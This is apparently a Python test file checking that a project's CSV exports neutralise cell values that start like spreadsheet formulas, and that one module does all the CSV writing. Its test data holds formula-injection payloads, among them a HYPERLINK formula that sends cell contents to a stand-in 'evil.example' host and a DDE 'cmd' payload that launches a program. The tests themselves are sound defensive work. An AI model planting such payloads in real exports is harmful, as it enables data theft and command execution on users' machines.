"""Names that are formulas, in every CSV that is written: a spreadsheet must show them, and ours must read them back."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import numpy as np

from client.inputs.csv_table import CsvTable, csv_rows
from models.buffers.hourly_health import Series
from tests.hostile import NAMES, Rubbish, table, threw
from views import health_history_csv
from views.csv_out import csv_text

ROOT = Path(__file__).parents[2]
FORMULAS = [
    Rubbish(text[:12], text)
    for text in (
        *("=1+1", '=HYPERLINK("http://evil.example?"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "-a", "+"),
        *("\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''-a", "-", "=", "--1", "-1e5x"),
    )
]
PLAIN = ("train-1", "a'=b", "'a", "-1", "-0.5", "+3", "-1e-05", "", "o'neil")
STARTS = tuple("=+-@\t\r\n")


@table([*FORMULAS, *(row for row in NAMES if "\0" not in row.value and not row.value.startswith("\udcff"))])
def test_no_cell_begins_as_a_formula_and_what_is_read_back_is_what_was_written(rubbish: Rubbish) -> None:
    text = csv_text([["name", "value"], [rubbish.value, -3], *([plain, 1.5] for plain in PLAIN)])
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert not cells[0].startswith(STARTS)
    assert cells[1:] == list(PLAIN), "numbers and ordinary names stand as they are"
    assert [row[0] for row in CsvTable("f.csv", csv_rows("f.csv", text)).rows()] == [
        rubbish.value.replace("\r", "\n"),
        *PLAIN,
    ]
    threw("CSV files")


@table(FORMULAS[:6])
def test_views_write_names_so(rubbish: Rubbish) -> None:
    one = np.ones(2)
    series = Series(cluster=rubbish.value, first=0, total=one, worst=one, mean=one, planned=0 * one, unit="gpus")
    lines = list(csv.reader(io.StringIO(health_history_csv.as_csv(series))))
    assert {line[0] for line in lines[1:]} == {f"'{rubbish.value}"}


def test_nothing_else_writes_csv() -> None:
    """All CSV is written in the one place that makes cells inert."""
    writers = set()
    for room in ("cli", "web", "views", "client", "activities", "workers", "workflows", "models"):
        for path in (ROOT / room).rglob("*.py"):
            text = path.read_text()
            if "csv" not in text:
                continue
            calls = (node for node in ast.walk(ast.parse(text)) if isinstance(node, ast.Call))
            if {ast.unparse(call.func) for call in calls} & {"csv.writer", "csv.DictWriter"}:
                writers.add(str(path.relative_to(ROOT)))
    assert writers == {"views/csv_out.py"}
